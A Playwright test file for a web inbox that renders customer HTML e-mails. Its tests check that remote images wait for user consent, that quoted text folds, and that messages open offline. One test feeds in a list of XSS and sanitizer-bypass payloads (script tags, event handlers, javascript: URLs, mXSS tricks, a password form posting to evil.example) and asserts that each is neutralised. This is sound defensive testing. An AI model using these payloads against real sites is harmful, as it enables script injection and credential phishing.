import { Buffer } from 'node:buffer'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { fileURLToPath } from 'node:url'
import { chatRows, openDevice, timeline, untilInstalled } from './inbox-steps'
import { expect, type Okno, test } from './okno'
import { past } from './past'

const PICTURE = fileURLToPath(new URL('../../public/icons/icon-192.png', import.meta.url))

/** An e-mail of a customer, whose HTML may show a picture that came with it. */
async function letter(okno: Okno, html: string, text = 'Текст письма'): Promise<void> {
  await past(okno, async ({ told, file, channel }) => {
    const channelId = await channel('email', 'hello@shop.example')
    const peer = { key: 'roman@example.com', name: 'Роман', origin: null }
    const first = await told({ type: 'message', channelId, peer, key: 'first', text: 'раньше', attachments: [], raw: '' })
    const dialogId = first.ok ? first.dialogId : ''
    const body = await file('roman', Buffer.from(html), { name: 'letter.html', mime: 'text/html', dialogId })
    const picture = await file('roman', await readFile(PICTURE), { name: 'inside.png', mime: 'image/png', dialogId })
    await told({
      type: 'message',
      channelId,
      peer,
      key: 'letter',
      text,
      attachments: [picture],
      content: { type: 'email', subject: 'Заказ', html: body, inline: [{ cid: 'inside@x', id: picture.id }] },
      raw: '',
    })
  })
}

test('[W6] an e-mail stands as it was laid out; its own picture shows, its quote is folded, foreign pictures wait to be allowed', async ({
  okno,
  page,
}) => {
  const asked: string[] = []
  const stranger = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(200, { 'content-type': 'image/gif' }).end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'))
  }).listen(0)
  const foreign = `http://localhost:${(stranger.address() as AddressInfo).port}`
  await letter(
    okno,
    `<style>p{color:red}</style><p>Здравствуйте, <b>Олена</b></p><table><tr><td align="right">24</td></tr></table>
     <img src="cid:inside@x"><img src="${foreign}/open.gif"><div style="background:url(${foreign}/css.gif)">фон</div>
     <img src="${foreign}/sale.png" alt="Скидка 20%" width="300" height="80">
     <img srcset="${foreign}/set.gif 2x"><a href="https://shop.example">сайт</a>
     <div class="gmail_quote">Вы писали: <blockquote>старое письмо</blockquote></div>`,
  )
  await okno.signIn(page)
  await chatRows(page).filter({ hasText: 'Роман' }).click()
  await expect(timeline(page)).toContainText('Заказ')
  const frame = timeline(page).frameLocator('iframe[title="Текст письма"]')
  await expect(frame.getByText('Олена')).toBeVisible()
  await expect(frame.getByText('24')).toHaveAttribute('align', 'right')
  await expect
    .poll(() =>
      frame
        .locator('img')
        .first()
        .evaluate((img) => (img as HTMLImageElement).naturalWidth),
    )
    .toBe(192)
  await expect(frame.getByText('старое письмо')).toBeHidden()
  await frame.locator('summary').click()
  await expect(frame.getByText('старое письмо')).toBeVisible()
  await expect(frame.getByRole('link', { name: 'сайт' })).toHaveAttribute('rel', /noopener/)
  expect(asked).toEqual([])
  // A picture without an address is a torn one.
  await expect(frame.locator('img:not([src])')).toHaveCount(0)
  expect(await frame.getByText('Скидка 20%').boundingBox()).toMatchObject({ width: 300, height: 80 })

  await page.getByRole('button', { name: 'Показать картинки' }).click()
  await expect.poll(() => asked).toContain('/open.gif')
  await expect(frame.getByText('Скидка 20%')).toHaveCount(0)
  expect(asked).not.toContain('/css.gif')
  await expect(page.getByRole('button', { name: 'Показать картинки' })).toHaveCount(0)
  stranger.close()
})

const HOSTILE = [
  '<script>parent.pwned=1</script>',
  '<img src=x onerror="parent.pwned=1">',
  '<svg onload="parent.pwned=1"><script>parent.pwned=1</script></svg>',
  '<iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="javascript:top.pwned=1"></object><embed src="javascript:top.pwned=1">',
  '<form action="https://evil.example"><input name=password autofocus><button>Войти</button></form>',
  '<a href="javascript:parent.pwned=1">ссылка</a><a href="JaVaScRiPt&colon;parent.pwned=1">ещё</a><a href="data:text/html,<script>1</script>">и ещё</a>',
  '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example/a.css">',
  '<div style="position:fixed;inset:0;background:red;z-index:9">поверх всего</div><p style="width:expression(parent.pwned=1)">x</p>',
  '<details open ontoggle="parent.pwned=1"><summary>x</summary></details><video src=x onerror="parent.pwned=1"></video>',
  '<template><img src=x onerror=parent.pwned=1></template><x onclick="parent.pwned=1" style="x">конец</x><p>Конец письма</p>',
  '<noscript><p title="</noscript><img src=x onerror=parent.pwned=1>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.pwned=1&gt;">',
].join('\n')

test('[W6] a hostile e-mail runs nothing, loads nothing, leaves nothing behind, and can be read', async ({ okno, page }) => {
  const asked: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(okno.url) && !/^(?:blob|data):/.test(request.url())) asked.push(request.url())
  })
  await letter(okno, `<p>Письмо</p>${HOSTILE}${'<div>'.repeat(3000)}глубоко`)
  await okno.signIn(page)
  await chatRows(page).filter({ hasText: 'Роман' }).click()
  const frame = timeline(page).frameLocator('iframe[title="Текст письма"]')
  await expect(frame.getByText('Письмо')).toBeVisible()
  await expect(frame.getByText('Конец письма')).toBeAttached()
  expect(
    await frame
      .locator('script, iframe, object, embed, form, input, button, base, link[rel=stylesheet]:not([href="/mail/letter.css"]), svg, video')
      .count(),
  ).toBe(0)
  const dangerous = await frame
    .locator('body')
    .evaluate(
      (body) =>
        [...body.querySelectorAll('*')].flatMap((element) =>
          [...element.attributes].filter(
            ({ name, value }) => /^on/i.test(name) || /javascript|expression|position\s*:\s*fixed/i.test(value),
          ),
        ).length,
    )
  expect(dangerous).toBe(0)
  for (const link of await frame.locator('a').all()) await expect(link).not.toHaveAttribute('href', /script|data:/i)
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(await timeline(page).locator('iframe').getAttribute('sandbox')).not.toContain('allow-scripts')
  expect(asked).toEqual([])
})

test('[W6][F1] an e-mail once read is there without a network, and before that its text is', async ({ okno, browser }) => {
  await letter(okno, '<p>Полный вид</p>', 'Простой текст')
  const context = await browser.newContext()
  const page = await openDevice(okno, context)
  await untilInstalled(page)
  await chatRows(page).filter({ hasText: 'Роман' }).click()
  await expect(timeline(page).frameLocator('iframe').getByText('Полный вид')).toBeVisible()
  await okno.kill()
  await context.setOffline(true)
  await page.reload()
  await expect(timeline(page).frameLocator('iframe').getByText('Полный вид')).toBeVisible()
})
